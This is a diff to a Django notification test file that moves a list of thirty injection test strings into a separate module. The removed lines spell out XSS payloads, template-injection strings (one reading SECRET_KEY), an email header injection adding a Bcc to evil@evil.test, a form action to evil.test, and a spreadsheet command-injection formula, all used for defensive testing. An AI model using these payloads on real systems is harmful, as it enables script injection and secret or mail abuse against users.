@@ -8,42 +8,9 @@ from django.test import Client
 
 from notifications import delivery, inbox, preferences, types
 from notifications.models import Delivery, Notification, Preference
+from tests.notifications.polyglots import POLYGLOTS
 
 pytestmark = pytest.mark.django_db(transaction=True)
-
-# Thirty strings that break out of attributes, elements, scripts, templates and headers where they are let.
-POLYGLOTS = [
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
-    "'><svg onload=alert(1)>",
-    "</title><script>alert(1)</script>",
-    "</textarea><img src=x onerror=alert(1)>",
-    "--><img src=x onerror=alert(1)>",
-    "]]><img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>",
-    "javascript:/*--></title></style></script>*/alert(1)//",
-    "\" onmouseover=\"alert(1)",
-    "' autofocus onfocus='alert(1)",
-    "` onload=`alert(1)",
-    "<math><mtext></table><img src=x onerror=alert(1)>",
-    "<style>@import 'x'</style>",
-    "<link rel=stylesheet href=x>",
-    "<base href=//evil.test/>",
-    "<meta http-equiv=refresh content=0>",
-    "<form action=//evil.test><input type=submit>",
-    "{{ settings.SECRET_KEY }}",
-    "{% debug %}",
-    "${alert(1)}",
-    "#{7*7}",
-    "%0d%0aBcc: evil@evil.test",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "=cmd|' /C calc'!A0",
-    "\u202e<b>gnp.exe</b>",
-]  # fmt: skip
 
 
 def sent(mail_server):
